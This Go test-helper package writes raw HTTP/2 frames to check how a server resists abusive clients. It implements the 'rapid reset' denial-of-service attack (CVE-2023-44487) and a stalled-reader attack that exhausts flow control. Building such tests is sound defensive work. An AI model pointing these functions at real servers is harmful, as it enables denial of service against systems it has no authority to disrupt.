// Package h2test writes raw HTTP/2 frames, for tests of how the agent's
// HTTP/2 server bounds abusive clients.
package h2test

import (
	"bytes"
	"io"
	"net"
	"strconv"
	"sync"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// RapidReset opens HTTP/2 on c (the TLS connection must have negotiated
// h2) and writes up to n pairs of a HEADERS frame for a GET of path (with
// the extra header fields) and an RST_STREAM cancelling it, as the
// "rapid reset" attack (CVE-2023-44487) does. It returns how many pairs
// it wrote and how the server cut the connection: its GOAWAY error code,
// "connection closed" if it closed the connection before a GOAWAY could
// be read, or "" if it did neither within wait. err is set only if the
// connection preface could not be written.
func RapidReset(c net.Conn, authority, path string, extra [][2]string, n int, wait time.Duration) (sent int, goaway string, err error) {
	if _, err := io.WriteString(c, http2.ClientPreface); err != nil {
		return 0, "", err
	}
	fr := http2.NewFramer(c, c)
	if err := fr.WriteSettings(); err != nil {
		return 0, "", err
	}
	done := make(chan string, 1)
	go func() {
		for {
			f, err := fr.ReadFrame()
			if err != nil {
				done <- "connection closed"
				return
			}
			// SETTINGS are not acknowledged: a Framer must not be
			// written from two goroutines.
			if g, ok := f.(*http2.GoAwayFrame); ok {
				done <- g.ErrCode.String()
				return
			}
		}
	}()
	var hb bytes.Buffer
	enc := hpack.NewEncoder(&hb)
	fields := append([][2]string{{":method", "GET"}, {":scheme", "https"}, {":authority", authority}, {":path", path}}, extra...)
	for _, f := range fields {
		_ = enc.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]})
	}
	block := hb.Bytes()
	for i := range n {
		id := uint32(2*i + 1)
		if fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndStream: true, EndHeaders: true}) != nil ||
			fr.WriteRSTStream(id, http2.ErrCodeCancel) != nil {
			break
		}
		sent++
	}
	select {
	case goaway = <-done:
	case <-time.After(wait):
	}
	return sent, goaway, nil
}

// Stalled is a client's HTTP/2 connection whose answers stall at the
// server, as those of a client that does not read them.
type Stalled struct {
	mu sync.Mutex // protects the fields below
	// status is each answered stream's status code; reset the streams the
	// server reset; closed is set once the server ended the connection.
	status map[uint32]int
	reset  map[uint32]bool
	closed bool
}

// Stall opens HTTP/2 on c (the TLS connection must have negotiated h2) and
// sends n GET requests of path, with the extra header fields. With read,
// it then reads what the server sends but grants no flow-control window
// beyond HTTP/2's initial 64 KiB, so the answers stall in the server's
// HTTP/2 flow control. Without it, it grants all the window HTTP/2 allows
// and never reads from c at all, so the server's writes stall in TCP. err
// is set only if the requests could not be written.
func Stall(c net.Conn, authority, path string, extra [][2]string, n int, read bool) (*Stalled, error) {
	if _, err := io.WriteString(c, http2.ClientPreface); err != nil {
		return nil, err
	}
	fr := http2.NewFramer(c, c)
	fr.ReadMetaHeaders = hpack.NewDecoder(4096, nil)
	if read {
		if err := fr.WriteSettings(); err != nil {
			return nil, err
		}
	} else {
		// All the window HTTP/2 allows, so that the server writes until
		// TCP stops it.
		const window = 1<<31 - 1
		if err := fr.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: window}); err != nil {
			return nil, err
		}
		if err := fr.WriteWindowUpdate(0, window-65535); err != nil {
			return nil, err
		}
	}
	var hb bytes.Buffer
	enc := hpack.NewEncoder(&hb)
	fields := append([][2]string{{":method", "GET"}, {":scheme", "https"}, {":authority", authority}, {":path", path}}, extra...)
	for _, f := range fields {
		_ = enc.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]})
	}
	block := hb.Bytes()
	for i := range n {
		if err := fr.WriteHeaders(http2.HeadersFrameParam{StreamID: uint32(2*i + 1), BlockFragment: block, EndStream: true, EndHeaders: true}); err != nil {
			return nil, err
		}
	}
	s := &Stalled{status: map[uint32]int{}, reset: map[uint32]bool{}}
	if !read {
		return s, nil
	}
	go func() {
		for {
			f, err := fr.ReadFrame()
			s.mu.Lock()
			switch f := f.(type) {
			case *http2.MetaHeadersFrame:
				if code, err := strconv.Atoi(f.PseudoValue("status")); err == nil {
					s.status[f.StreamID] = code
				}
			case *http2.RSTStreamFrame:
				s.reset[f.StreamID] = true
			}
			if err != nil {
				s.closed = true
			}
			s.mu.Unlock()
			// SETTINGS and PINGs are not acknowledged: a Framer must not
			// be written from two goroutines, and the server does not
			// insist.
			if err != nil {
				return
			}
		}
	}()
	return s, nil
}

// Answers returns how many streams were answered with each status, how
// many of those the server reset since, and whether it ended the
// connection.
func (s *Stalled) Answers() (byStatus map[int]int, reset int, closed bool) {
	s.mu.Lock()
	defer s.mu.Unlock()
	byStatus = map[int]int{}
	for id, code := range s.status {
		byStatus[code]++
		if s.reset[id] {
			reset++
		}
	}
	return byStatus, reset, s.closed
}
